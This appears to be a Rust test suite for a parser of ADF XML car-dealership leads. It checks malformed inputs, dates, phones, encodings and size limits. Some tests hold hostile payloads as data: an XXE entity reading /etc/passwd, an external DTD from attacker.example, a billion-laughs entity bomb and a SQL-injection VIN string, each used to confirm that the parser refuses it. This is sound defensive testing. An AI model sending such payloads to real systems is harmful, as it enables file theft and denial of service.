use super::*;
use crate::execution::intake::charset::CharsetError;

const MINIMAL: &str = r#"<?xml version="1.0" encoding="UTF-8"?><?adf version="1.0"?><adf><prospect>
<requestdate>2026-03-14T19:42:05-05:00</requestdate>
<vehicle><year>2021</year><make>Toyota</make><model>RAV4</model></vehicle>
<customer><contact><name part="first">Dana</name><name part="last">Whitfield</name><email>dana.w@example.com</email></contact></customer>
<vendor><vendorname>Lakeside Toyota</vendorname></vendor></prospect></adf>"#;

fn one(text: &str) -> NormalisedLead {
    let mut leads = read(text.as_bytes(), None).unwrap();
    assert_eq!(leads.len(), 1);
    leads.remove(0)
}

#[test]
fn reads_the_minimal_lead() {
    let lead = one(MINIMAL);
    assert_eq!(lead.customer.first_name, "Dana");
    assert_eq!(lead.customer.email.as_deref(), Some("dana.w@example.com"));
    assert_eq!(lead.vehicle.description(), "2021 Toyota RAV4");
    assert_eq!(lead.requested_at.unwrap().to_rfc3339(), "2026-03-15T00:42:05+00:00");
    assert_eq!(lead.vendor.as_deref(), Some("Lakeside Toyota"));
}

#[test]
fn reads_what_is_seen_in_the_wild() {
    // (what is odd about it, the text, first name, what must be found)
    let table = [
        (
            "a processing instruction without quotes",
            MINIMAL.replace(r#"<?adf version="1.0"?>"#, r#"<?ADF VERSION "1.0"?>"#),
        ),
        ("no declaration", MINIMAL.replace(r#"<?xml version="1.0" encoding="UTF-8"?>"#, "")),
        ("attributes without quotes", MINIMAL.replace(r#"part="first""#, "part=first")),
        (
            "upper case",
            MINIMAL.replace("<prospect>", "<PROSPECT STATUS=\"new\">").replace("</prospect>", "</PROSPECT>"),
        ),
        ("no vendor name", MINIMAL.replace("<vendorname>Lakeside Toyota</vendorname>", "")),
        ("extra elements", MINIMAL.replace("<vehicle>", "<leadtype>internet</leadtype><vehicle>")),
        (
            "an ampersand not escaped",
            MINIMAL.replace("<vendor>", "<provider><name part=\"full\">A&B Autos & Co</name></provider><vendor>"),
        ),
        ("empty tags", MINIMAL.replace("<vehicle>", "<vehicle><trim/><vin></vin>")),
        ("inside HTML", format!("<html><body><p>New lead!<br>{MINIMAL}</p></body></html>")),
        (
            "escaped inside HTML",
            format!("<html><body><pre>{}</pre></body></html>", MINIMAL.replace('<', "&lt;").replace('>', "&gt;")),
        ),
        (
            "a mail in quoted-printable",
            format!(
                "Content-Transfer-Encoding: quoted-printable\n\n{}",
                MINIMAL.replace('=', "=3D").replace("Whitfield", "Whit=\nfield")
            ),
        ),
        ("an end tag that never comes", MINIMAL.replace("</contact>", "")),
    ];
    for (what, text) in table {
        let lead = one(&text);
        assert_eq!(lead.customer.first_name, "Dana", "{what}");
        assert_eq!(lead.customer.last_name, "Whitfield", "{what}");
        assert_eq!(lead.vehicle.model, "RAV4", "{what}");
    }
    assert_eq!(
        one(&MINIMAL.replace("<vendor>", "<provider><name>A&B Autos</name></provider><vendor>")).source,
        "A&B Autos"
    );
}

#[test]
fn reads_odd_moments() {
    let table = [
        ("2026-03-14T9:42:05-05:00", Some("2026-03-14T14:42:05+00:00")),
        ("2026-03-14T19:42:05", Some("2026-03-14T19:42:05+00:00")),
        ("2026-03-14 19:42:05-08:0", Some("2026-03-15T03:42:05+00:00")),
        ("2026-03-14T19:42Z", Some("2026-03-14T19:42:00+00:00")),
        ("yesterday", None),
        ("2026-03-14T19:42:05+1é", None),
        ("2026-03-14T19:42:05+é", None),
        ("2026-03-14T19:42:05+999999999:00", None),
        ("2026-03-14T19:42:05-5", Some("2026-03-15T00:42:05+00:00")),
        ("+262142-12-31T00:00:00Z", None),
    ];
    for (text, expected) in table {
        assert_eq!(read_moment(text).map(|at| at.to_rfc3339()).as_deref(), expected, "{text}");
    }
}

#[test]
fn a_telephone_is_textable_only_when_the_sender_says_so() {
    let with = |phone: &str| one(&MINIMAL.replace("<email>", &format!("{phone}<email>"))).customer;
    let cell = with(r#"<phone type="cellphone">312-555-0143</phone>"#);
    assert_eq!(cell.mobile.as_deref(), Some("+13125550143"));
    let home = with(r#"<phone type="home">(312) 555-0143</phone>"#);
    assert_eq!((home.mobile, home.phone.as_deref()), (None, Some("+13125550143")));
    let plain = with("<phone>312.555.0143</phone>");
    assert_eq!(plain.mobile, None);
    assert_eq!(with(r#"<phone type="fax">312-555-0143</phone>"#).phone, None);
}

#[test]
fn the_trade_in_is_not_the_car_they_want() {
    let trade = r#"<vehicle interest="trade-in"><year>2003</year><make>Honda</make><model>Accord</model><odometer units="mi">161,000</odometer></vehicle>"#;
    let lead = one(&MINIMAL.replace("<vehicle>", &format!("{trade}<vehicle>")));
    assert_eq!(lead.vehicle.model, "RAV4");
    let traded = lead.trade_in.unwrap();
    assert_eq!((traded.model.as_str(), traded.odometer), ("Accord", Some(161_000)));
}

#[test]
fn document_types_and_entities_are_refused() {
    let bomb = r#"<!DOCTYPE adf [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>"#;
    let external = r#"<!DOCTYPE adf SYSTEM "http://attacker.example/adf.dtd">"#;
    for declared in [bomb, external, "<!doctype\nADF>", "<!ENTITY x 'y'>"] {
        for text in [
            MINIMAL.replace("<adf>", &format!("{declared}<adf>")),
            MINIMAL.replace("<vehicle>", &format!("{declared}<vehicle>")),
        ] {
            assert_eq!(read(text.as_bytes(), None), Err(AdfError::Doctype), "{declared}");
        }
    }
    let mail = format!("<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01//EN\"><html><body>{MINIMAL}</body></html>");
    assert_eq!(one(&mail).customer.first_name, "Dana", "every HTML mail has one");
}

#[test]
fn a_billion_laughs_cost_nothing() {
    let mut text = String::from("<!DOCTYPE adf [<!ENTITY l0 \"lol\">");
    for level in 1..100 {
        text.push_str(&format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10)));
    }
    text.push_str(&MINIMAL.replace("Dana", "&l99;"));
    assert_eq!(read(text.as_bytes(), None), Err(AdfError::Doctype));
}

#[test]
fn html_entities_are_letters_and_undefined_ones_are_nothing() {
    let dana = |name: &str| read(MINIMAL.replace("Dana", name).as_bytes(), None);
    assert_eq!(dana("Jos&eacute;").unwrap()[0].customer.first_name, "José");
    assert_eq!(dana("Jos&#233;&nbsp;&#x41;").unwrap()[0].customer.first_name, "José A");
    assert_eq!(dana("&xxe;Dana").unwrap()[0].customer.first_name, "Dana");
    assert_eq!(dana("&xxe;"), Err(AdfError::UnreadableName { prospect: 0 }), "no nameless customer");
    assert_eq!(dana(" &a; &b;\n"), Err(AdfError::UnreadableName { prospect: 0 }));
    assert_eq!(dana("&#0;Da&#8;na&#x202e;").unwrap()[0].customer.first_name, "Dana", "what cannot be seen is left out");
    assert_eq!(dana("Dana\n   Maria").unwrap()[0].customer.first_name, "Dana Maria");
}

#[test]
fn the_encodings_of_2000() {
    let dana = |text: &str| text.replace("Dana", "Núria");
    let western = |text: &str| encoding_rs::WINDOWS_1252.encode(text).0.into_owned();
    let latin = western(&dana(MINIMAL).replace("UTF-8", "ISO-8859-1"));
    let utf16: Vec<u8> = dana(MINIMAL).encode_utf16().flat_map(u16::to_le_bytes).collect();
    let quoted = MINIMAL.replace("UTF-8", "ISO-8859-1").replace('=', "=3D").replace("Dana", "N=FAria");
    for (what, content_type, bytes) in [
        ("declared", Some("application/x-adf+xml"), latin.clone()),
        ("by the content type", Some("text/xml; charset=windows-1252"), latin),
        ("UTF-16", None, utf16),
        ("quoted-printable", None, quoted.into_bytes()),
    ] {
        let leads = read(&bytes, content_type).unwrap();
        assert_eq!(leads[0].customer.first_name, "Núria", "{what}");
    }
    let unknown = MINIMAL.replace("UTF-8", "UTF-7");
    assert_eq!(read(unknown.as_bytes(), None), Err(CharsetError::Unknown("UTF-7".to_owned()).into()));
}

#[test]
fn a_document_that_was_cut_is_refused() {
    let cut = |at: usize| read(&MINIMAL.as_bytes()[..at], None);
    let end = MINIMAL.len() - "</adf>".len();
    for at in (MINIMAL.find("<adf>").unwrap() + 5)..=end {
        assert_eq!(cut(at), Err(AdfError::Truncated), "{}", &MINIMAL[..at]);
    }
    assert_eq!(cut(MINIMAL.len() - 1), Err(AdfError::Truncated), "the last character counts");
    assert!(cut(MINIMAL.len()).is_ok());
}

#[test]
fn several_prospects_are_several_leads_and_all_are_good_or_none_is_taken() {
    let start = MINIMAL.find("<prospect>").unwrap();
    let prospect = &MINIMAL[start..MINIMAL.find("</adf>").unwrap()];
    let second = prospect.replace("Dana", "Omar").replace("dana.w", "omar.w");
    let both = MINIMAL.replace("</adf>", &format!("{second}</adf>"));
    let names: Vec<String> = read(both.as_bytes(), None).unwrap().into_iter().map(|l| l.customer.first_name).collect();
    assert_eq!(names, ["Dana", "Omar"]);
    let bad = MINIMAL.replace("</adf>", &format!("{second}<prospect><customer/></prospect></adf>"));
    let error = read(bad.as_bytes(), None).unwrap_err();
    assert_eq!((error.pointer().as_str(), error), ("/adf/prospect/2/customer", AdfError::NoCustomer { prospect: 2 }));
}

#[test]
fn numbers_without_bounds_are_left_out() {
    let lead = |from: &str, to: &str| one(&MINIMAL.replace(from, to));
    let vehicle = |extra: &str| lead("<vehicle>", &format!("<vehicle>{extra}")).vehicle;
    assert_eq!(vehicle("<odometer>99999999999999999999</odometer>").odometer, None);
    assert_eq!(vehicle(&format!("<price>{}</price>", "9".repeat(400))).price, None);
    assert_eq!(vehicle("<vin>' or 1=1 -- 12345</vin>").vin, None);
    assert_eq!(lead("2026-03-14", "+262142-12-31").requested_at, None);
}

#[test]
fn refuses_what_is_too_much_or_too_little() {
    let refused = |text: &str| read(text.as_bytes(), None).unwrap_err();
    assert_eq!(refused(&" ".repeat(xml::MAX_BYTES + 1)), AdfError::TooLarge);
    assert_eq!(refused(&format!("<adf>{}</adf>", "<a>".repeat(100))), AdfError::TooLarge);
    assert_eq!(refused(&format!("<adf>{}</adf>", "<a/>".repeat(5000))), AdfError::TooLarge);
    assert_eq!(refused("hello"), AdfError::NoProspect);
    assert_eq!(refused("<adf></adf>"), AdfError::NoProspect);
    assert_eq!(refused("<adf><prospect><customer/></prospect></adf>"), AdfError::NoCustomer { prospect: 0 });
    assert_eq!(refused(&format!("<adf>{}</adf>", "<prospect/>".repeat(21))), AdfError::TooMany);
}
